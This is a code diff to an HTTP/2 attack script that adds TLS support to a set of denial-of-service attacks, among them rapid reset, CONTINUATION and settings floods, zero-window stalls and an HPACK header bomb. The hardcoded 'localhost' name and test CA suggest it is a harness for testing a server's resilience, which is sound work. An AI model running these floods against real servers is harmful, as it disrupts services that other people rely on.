@@ -17,15 +17,20 @@ Every attack starts the connection as a real client does (the server's SETTINGS 
 acknowledged). P is the path requested: zero-window and stalled-stream want a large response,
 made-you-reset and empty-data-flood one that takes a request body.
 
-usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
+usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P] [--tls CA_FILE]
 attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
          empty-data-flood, priority-flood, zero-window, hpack-bomb; and stalled-stream, where
          only one of two streams is held back (the server should reset it, not end the
          connection)
+
+With --tls the attacks run over TLS (ALPN h2, SNI localhost, the server's certificate checked
+against the authority in CA_FILE, https as the requests' :scheme): the same frames, inside TLS
+records.
 """
 import argparse
 import json
 import socket
+import ssl
 import struct
 import sys
 import threading
@@ -41,16 +46,81 @@ CANCEL = 0x8
 FRAME_HEADER = 9
 
 
+class TlsSocket:
+    """A TLS client connection on a socket, with the TLS state in memory (ssl.MemoryBIO) rather
+    than in an ssl.SSLSocket, so that one thread may read while another writes: the TLS object
+    is only used under a lock, and the socket's blocking calls happen outside it (records are
+    sent in the order they were made). sendall, recv and settimeout behave as the socket's."""
+
+    def __init__(self, sock, context, server_name):
+        self.sock = sock
+        self.incoming = ssl.MemoryBIO()
+        self.outgoing = ssl.MemoryBIO()
+        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=server_name)
+        self.tls_lock = threading.Lock()
+        self.send_lock = threading.Lock()
+        while True:
+            try:
+                self.tls.do_handshake()
+                break
+            except ssl.SSLWantReadError:
+                self._send_pending()
+                data = self.sock.recv(65536)
+                if not data:
+                    raise ConnectionResetError("the server closed the connection during the TLS handshake")
+                self.incoming.write(data)
+        self._send_pending()
+        if self.tls.selected_alpn_protocol() != "h2":
+            raise SystemExit("the server chose %r by ALPN, not h2" % self.tls.selected_alpn_protocol())
+
+    def _send_pending(self):
+        data = self.outgoing.read()
+        if data:
+            self.sock.sendall(data)
+
+    def sendall(self, data):
+        if not data:
+            return
+        with self.send_lock:
+            with self.tls_lock:
+                self.tls.write(data)
+                records = self.outgoing.read()
+            self.sock.sendall(records)
+
+    def recv(self, size):
+        while True:
+            with self.tls_lock:
+                try:
+                    return self.tls.read(size)
+                except ssl.SSLWantReadError:
+                    pass
+                except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
+                    return b""
+            data = self.sock.recv(65536)
+            with self.tls_lock:
+                if data:
+                    self.incoming.write(data)
+                else:
+                    self.incoming.write_eof()
+
+    def settimeout(self, timeout):
+        self.sock.settimeout(timeout)
+
+
 class Connection:
     """A client connection that writes raw frames and (optionally) reads the server's."""
 
-    def __init__(self, host, port, budget, settings=None, receive_buffer=None):
+    def __init__(self, host, port, budget, settings=None, receive_buffer=None, tls=None):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if receive_buffer:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
         self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
         self.sock.connect((host, port))
         self.port = self.sock.getsockname()[1]
+        self.scheme = "http"
+        if tls is not None:
+            self.sock = TlsSocket(self.sock, tls, "localhost")
+            self.scheme = "https"
         self.encoder = hpack.Encoder()
         self.authority = "%s:%d" % (host, port)
         self.goaway = None
@@ -77,7 +147,7 @@ class Connection:
         self.frames_sent += len(frames)
 
     def request_headers(self, stream_id, method="GET", path="/", end_stream=True, extra=()):
-        block = self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
+        block = self.encoder.encode([(":method", method), (":scheme", self.scheme), (":path", path),
                                      (":authority", self.authority)] + list(extra))
         frame = HeadersFrame(stream_id, block)
         frame.flags.add("END_HEADERS")
@@ -203,7 +273,7 @@ def run(attack, conn, budget_seconds, path):
                                                           extra=[("content-length", "1")]))
                         batch.append(DataFrame(stream, b"too long", flags=["END_STREAM"]))
                     else:
-                        block = conn.encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
+                        block = conn.encoder.encode([(":method", "GET"), (":scheme", conn.scheme), (":path", path),
                                                      (":authority", conn.authority), ("X-Upper", "1")])
                         batch.append(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
                     stream += 2
@@ -284,12 +354,12 @@ def run(attack, conn, budget_seconds, path):
             big = ("x-bomb", "b" * 4000)
             stream = 1
             with conn.lock:
-                conn.send(HeadersFrame(stream, encoder.encode([(":method", "GET"), (":scheme", "http"),
+                conn.send(HeadersFrame(stream, encoder.encode([(":method", "GET"), (":scheme", conn.scheme),
                                                                (":path", path), (":authority", conn.authority),
                                                                big]), flags=["END_HEADERS", "END_STREAM"]))
             while not conn.ended() and not spent():
                 stream += 2
-                block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":path", path),
+                block = encoder.encode([(":method", "GET"), (":scheme", conn.scheme), (":path", path),
                                         (":authority", conn.authority)] + [big] * 2000)
                 with conn.lock:
                     conn.send(HeadersFrame(stream, block, flags=["END_HEADERS", "END_STREAM"]))
@@ -327,14 +397,19 @@ def main():
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("--frames", type=int, default=1_000_000)
     parser.add_argument("--path", default="/")
+    parser.add_argument("--tls", metavar="CA_FILE", help="speak TLS, trusting the authority in CA_FILE")
     args = parser.parse_args()
+    tls = None
+    if args.tls:
+        tls = ssl.create_default_context(cafile=args.tls)
+        tls.set_alpn_protocols(["h2"])
     settings = None
     receive_buffer = None
     if args.attack in ("zero-window", "stalled-stream"):
         settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
     if args.attack in ("settings-flood", "ping-flood"):
         receive_buffer = 4096
-    conn = Connection(args.host, args.port, args.frames, settings, receive_buffer)
+    conn = Connection(args.host, args.port, args.frames, settings, receive_buffer, tls)
     print(json.dumps(run(args.attack, conn, args.seconds, args.path)))
 
 
